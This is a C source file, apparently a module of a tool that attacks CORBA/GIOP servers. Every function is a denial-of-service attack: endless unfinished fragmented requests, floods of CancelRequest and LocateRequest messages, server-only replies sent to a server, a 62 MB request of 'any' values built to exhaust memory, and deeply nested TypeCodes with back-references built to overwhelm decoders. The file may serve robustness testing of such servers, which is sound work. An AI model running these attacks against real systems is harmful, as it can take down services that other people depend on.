/* SPDX-License-Identifier: MIT-0 */
/* Attacks that GIOP alone knows: many messages begun at a time, cancels, locates, replies to a server, values of any type. */
#include "attacker.h"
#include <string.h>

/* The first fragments of request after request, none of which is ended. */
static void begun_messages(struct attacker *attacker)
{
    static const uint8_t filler[16000];
    (void)attacker;
    while (goes_on()) {
        const int fd = to_server();
        bool alive = fd >= 0;
        for (uint32_t id = 0; alive && goes_on(); id++) {
            struct bytes bytes = {NULL, 0, 0};
            const size_t begin = request_begin(&bytes, id, ECHO);
            bytes_word(&bytes, 1 << 20);
            bytes_add(&bytes, filler, 15992);
            while ((bytes.size - begin) % 8 != 0)
                bytes_zeros(&bytes, 1);
            request_end(&bytes, begin);
            bytes.at[6] = 2;
            alive = put(fd, bytes.at, bytes.size) && drain(fd);
            bytes_free(&bytes);
        }
        close(fd);
    }
}

static void flood(const struct bytes *bytes)
{
    while (goes_on()) {
        const int fd = to_server();
        bool alive = fd >= 0;
        while (alive && goes_on())
            alive = put(fd, bytes->at, bytes->size) && drain(fd);
        close(fd);
    }
}

static void cancels(struct attacker *attacker)
{
    struct bytes bytes = {NULL, 0, 0};
    for (uint32_t id = 0; id < 500; id++) {
        const uint8_t number[4] = {0, 0, (uint8_t)random_below(attacker, 256), (uint8_t)id};
        if (id % 10 == 0)
            request_word(&bytes, id, NOTHING, 0);
        giop_message(&bytes, 2, 0, 2, 4, number, 4);
    }
    flood(&bytes);
    bytes_free(&bytes);
}

static void locates(struct attacker *attacker)
{
    struct bytes bytes = {NULL, 0, 0};
    for (uint32_t id = 0; id < 200; id++) {
        struct bytes body = {NULL, 0, 0};
        bytes_word(&body, id);
        bytes_word(&body, 0);
        bytes_word(&body, 16);
        for (int index = 0; index < 4; index++)
            bytes_word(&body, random_below(attacker, UINT32_MAX));
        giop_message(&bytes, 2, 0, 3, (uint32_t)body.size, body.at, body.size);
        bytes_free(&body);
    }
    flood(&bytes);
    bytes_free(&bytes);
}

/* Messages that servers send: replies, locate replies, errors, ends. */
static void servers_messages(struct attacker *attacker)
{
    static const uint8_t types[] = {1, 4, 5, 6, 7, 8, 200};
    while (goes_on()) {
        const int fd = to_server();
        for (int count = 0; fd >= 0 && count < 10 && goes_on(); count++) {
            struct bytes bytes = {NULL, 0, 0};
            const uint8_t body[24] = {0, 0, 0, (uint8_t)random_below(attacker, 4), 0, 0, 0, (uint8_t)random_below(attacker, 6)};
            const uint32_t size = 4 * random_below(attacker, 7);
            giop_message(&bytes, (uint8_t)random_below(attacker, 3), (uint8_t)(2 * random_below(attacker, 2)), types[random_below(attacker, 7)], size, body, size);
            const bool alive = put(fd, bytes.at, bytes.size);
            reply_comes(fd, 1);
            bytes_free(&bytes);
            if (!alive)
                break;
        }
        close(fd);
    }
}

/* One message of values of any type: each is eight bytes in the message, and much more in memory. */
static void any_bomb(struct attacker *attacker)
{
    struct bytes bytes = {NULL, 0, 0};
    const uint32_t count = 7700000;
    (void)attacker;
    aim.operation = "count";
    const size_t begin = request_begin(&bytes, 1, ECHO);
    bytes_word(&bytes, count);
    for (uint32_t index = 0; index < count; index++) {
        bytes_word(&bytes, 3);          /* tk_long */
        bytes_word(&bytes, index);
    }
    request_end(&bytes, begin);
    ask_again_and_again(&bytes);
    bytes_free(&bytes);
}

/* An encapsulation: big-endian, its length in front. */
static void capsule(struct bytes *to, const struct bytes *body)
{
    bytes_word(to, (uint32_t)body->size);
    bytes_add(to, body->at, body->size);
}

/* TypeCodes within TypeCodes: sequences of sequences, structures of many members, references back. */
static void typecode(struct attacker *attacker, struct bytes *to, uint32_t depth)
{
    const uint32_t what = depth == 0 ? 3 : random_below(attacker, 4);
    struct bytes body = {NULL, 0, 0};
    switch (what) {
    case 0:
        bytes_word(to, 19);             /* tk_sequence */
        bytes_word(&body, 0);
        typecode(attacker, &body, depth - 1);
        bytes_word(&body, random_below(attacker, 3));
        capsule(to, &body);
        break;
    case 1:
        bytes_word(to, 15);             /* tk_struct */
        bytes_word(&body, 0);
        bytes_word(&body, 4), bytes_add(&body, "a:b", 4);
        bytes_word(&body, 2), bytes_add(&body, "s\0\0", 4);
        const uint32_t members = 1 + random_below(attacker, 4);
        bytes_word(&body, members);
        for (uint32_t index = 0; index < members; index++) {
            bytes_word(&body, 2), bytes_add(&body, "m\0\0", 4);
            typecode(attacker, &body, depth - 1);
        }
        capsule(to, &body);
        break;
    case 2:
        bytes_word(to, 0xffffffff);     /* a reference back */
        bytes_word(to, (uint32_t)-(int32_t)(4 * (1 + random_below(attacker, 30))));
        break;
    default:
        bytes_word(to, random_below(attacker, 34));
    }
    bytes_free(&body);
}

static void typecode_bomb(struct attacker *attacker)
{
    aim.operation = "count";
    while (goes_on()) {
        struct bytes bytes = {NULL, 0, 0};
        const uint32_t count = 1 + random_below(attacker, 20);
        const size_t begin = request_begin(&bytes, 1, ECHO);
        bytes_word(&bytes, count);
        for (uint32_t index = 0; index < count; index++) {
            typecode(attacker, &bytes, 1 + random_below(attacker, 8));
            bytes_zeros(&bytes, 4 * random_below(attacker, 10));
        }
        request_end(&bytes, begin);
        ask(&bytes, 20);
        bytes_free(&bytes);
    }
}

const struct attack attacks_of_giop[] = {
    {"begun-messages", begun_messages, 4, "giop", "", "first fragments of thousands of requests, none ended"},
    {"cancels", cancels, 4, "giop", "", "a flood of CancelRequest"},
    {"locates", locates, 4, "giop", "", "a flood of LocateRequest for objects that are not there"},
    {"servers-messages", servers_messages, 4, "giop", "", "replies, errors and ends, sent to a server"},
    {"any-bomb", any_bomb, 1, "corba", "", "one message of 62 MB of any"},
    {"typecode-bomb", typecode_bomb, 4, "corba", "", "TypeCodes in TypeCodes, with references back"},
    {NULL, NULL, 0, NULL, NULL, NULL},
};
